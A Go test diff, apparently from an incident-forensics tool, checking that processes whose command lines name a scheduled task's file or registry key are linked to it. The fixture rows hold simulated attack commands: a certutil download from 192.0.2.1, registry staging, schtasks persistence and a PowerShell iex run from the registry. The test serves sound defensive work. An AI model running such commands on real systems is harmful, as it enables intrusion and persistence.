@@ -118,3 +118,34 @@ func TestAClearedLog(t *testing.T) {
 		}
 	}
 }
+
+// TestWhoNamedTheSame: where only processes are logged, one whose command line names what
+// the action names may have put it there; the task's own, and the one that asks for the
+// task, are no such.
+func TestWhoNamedTheSame(t *testing.T) {
+	row := func(at int, file, line string, pid int) []any {
+		return []any{base + at, "pc1", "ann", file, line, pid, base + at, 0x77, "explorer.exe", "explorer.exe", 9, nil, pid}
+	}
+	q := answers{
+		"events of tasks": {eventColumns, [][]any{{base, "pc1", "ScheduledTaskCreated", `\x`, "Security", 4698, "ann", 0x77, "", "", "", "", reading, `ann`, false, nil, nil, nil, nil, 1}}},
+		"command lines that name the same": {processColumns, [][]any{
+			row(-9*second, "certutil.exe", `certutil -urlcache -f http://192.0.2.1/x C:\d\x.ps1`, 31),
+			row(-8*second, "reg.exe", `reg add HKCU\A /v b /d 1`, 32),
+			row(-7*second, "reg.exe", `reg add HKCU\A /v c /d 1`, 33),
+			row(-6*second, "notepad.exe", `notepad C:\e\x.ps1`, 34),
+			row(-5*second, "schtasks.exe", `schtasks /create /tn x /tr "C:\d\x.ps1"`, 35),
+			row(9*second, "powershell.exe", `powershell.exe -c "iex (gp HKCU:\A b).b; . C:\d\x.ps1 > C:\d\y.txt"`, 36),
+		}},
+	}
+	d := gather(t, q, &finding.Finding{Devices: []string{"pc1"}, Task: &finding.Task{Name: `\x`}}, "process", "security-task")
+	var got []string
+	for i := range d.Edges {
+		if e := &d.Edges[i]; strings.HasPrefix(e.Verb, "named ") {
+			got = append(got, d.Nodes[e.From].Label+" "+e.Verb+" "+string(e.Confidence))
+		}
+	}
+	want := []string{`certutil.exe named c:\d\x.ps1 in its command line, as does an action of possible`, `reg.exe named HKCU\A in its command line, as does an action of possible`}
+	if strings.Join(got, "\n") != strings.Join(want, "\n") {
+		t.Errorf("got %q, want %q", got, want)
+	}
+}
